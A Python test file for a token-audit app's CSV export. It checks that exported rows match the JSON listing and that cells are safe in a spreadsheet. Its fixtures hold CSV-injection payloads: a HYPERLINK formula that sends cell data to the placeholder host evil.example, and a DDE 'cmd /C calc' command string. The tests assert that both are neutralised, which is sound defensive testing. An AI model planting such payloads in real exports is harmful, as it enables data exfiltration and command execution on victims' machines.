"""GET /tokens.csv (SPEC section 11): every row of the view, streamed, safe in a spreadsheet."""

import csv
import io
from datetime import timedelta

import pytest
from conftest import auth_header, database, make_token, make_user

from tokenaudit.clock import utcnow
from tokenaudit.extensions import db

# SPEC section 11, as written there.
HEADER = (  # noqa: SIM905 (the spec's list, as written there)
    "id, name, prefix, user_name, user_email, status, created_at, expires_at, last_used_at, "
    "last_used_method, last_used_path, last_used_ip"
).split(", ")


def read_csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="api-tokens-')
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8"))))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def many(org, admin):
    """120 tokens (more than two pages), a third of them old and never used, one hostile name."""
    with database():
        owners = [make_user(org, f"m{n}@acme.test", f"Müller {n}") for n in range(3)]
        now = utcnow()
        for index in range(120):
            token, value = make_token(owners[index % 3], f"bot {index} ☃")
            if index % 3 == 0:
                token.created_at = now - timedelta(days=200)
        make_token(owners[0], '=HYPERLINK("http://evil.example/?"&A1,"click")')
        db.session.commit()
    # One token used from a known address, through the API.
    return value


def json_rows(client, header, query):
    rows, page = [], 1
    while True:
        body = client.get(f"/api/v2/organization/tokens/?{query}&page={page}", headers=header).json
        rows += body["tokens"]
        if page >= body["pages"]:
            return rows
        page += 1


@pytest.mark.parametrize(
    "query", ["", "status=stale&sort=name&dir=asc", "q=bot%201&sort=user", "status=never_used&q=m1"]
)
def test_csv_of_a_view_equals_the_json_twins_rows(admin_client, admin, many, query):
    used = many
    assert (
        admin_client.get(
            "/api/v2/me/", headers=auth_header(used), environ_base={"REMOTE_ADDR": "203.0.113.9"}
        ).status_code
        == 200
    )
    header = auth_header(make_token(admin, "admin audit")[1])
    exported = read_csv(admin_client.get(f"/tokens.csv?{query}"))
    listed = json_rows(admin_client, header, query)
    # The admin's own token records its use on each JSON request: compare what was exported.
    expected = [
        {
            "id": str(t["id"]),
            "name": t["name"],
            "prefix": t["prefix"],
            "user_name": t["user"]["name"],
            "user_email": t["user"]["email"],
            "status": t["status"],
            "created_at": t["created_at"],
            "expires_at": t.get("expires_at") or "",
            "last_used_at": t["last_used_at"] or "",
            "last_used_method": t["last_used_method"] or "",
            "last_used_path": t["last_used_path"] or "",
            "last_used_ip": t["last_used_ip"] or "",
        }
        for t in listed
        if t["name"] != "admin audit"
    ]
    exported = [row for row in exported if row["name"] != "admin audit"]
    for row in expected:
        if row["name"].startswith("="):
            row["name"] = "'" + row["name"]
    assert exported == expected
    assert len(exported) > 0
    if not query:
        assert len(exported) == 121
        assert any(row["last_used_ip"] == "203.0.113.9" for row in exported)


def test_formula_cells_are_inert_and_text_stays_whole(admin_client, many):
    rows = read_csv(admin_client.get("/tokens.csv?q=HYPERLINK"))
    [row] = rows
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = read_csv(admin_client.get("/tokens.csv?q=bot%2011&sort=name&dir=asc"))
    assert [r["name"] for r in rows] == [
        "bot 11 ☃",
        "bot 110 ☃",
        "bot 111 ☃",
        "bot 112 ☃",
        "bot 113 ☃",
        "bot 114 ☃",
        "bot 115 ☃",
        "bot 116 ☃",
        "bot 117 ☃",
        "bot 118 ☃",
        "bot 119 ☃",
    ]
    assert rows[0]["user_name"].startswith("Müller")


@pytest.mark.parametrize("leader", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_leader_is_neutralised_in_names_and_owner_names(admin_client, org, leader):
    owner = make_user(org, "x@acme.test", f"{leader}cmd|' /C calc'!A0")
    make_token(owner, f"{leader}SUM(1+1)")
    [row] = read_csv(admin_client.get("/tokens.csv?q=sum"))
    assert row["name"] == f"'{leader}SUM(1+1)"
    assert row["user_name"] == f"'{leader}cmd|' /C calc'!A0"


def test_csv_is_streamed_and_an_empty_view_still_has_its_header(admin_client, many):
    response = admin_client.get("/tokens.csv?q=nothing-matches-this")
    assert response.is_streamed
    assert read_csv(response) == []


def test_the_page_links_to_the_csv_of_its_view(admin_client, many):
    page = admin_client.get("/tokens?q=bot&status=stale").get_data(as_text=True)
    assert (
        'href="/tokens.csv?q=bot&amp;status=stale&amp;sort=created&amp;dir=desc" download' in page
    )
    assert ">Download CSV</a>" in page
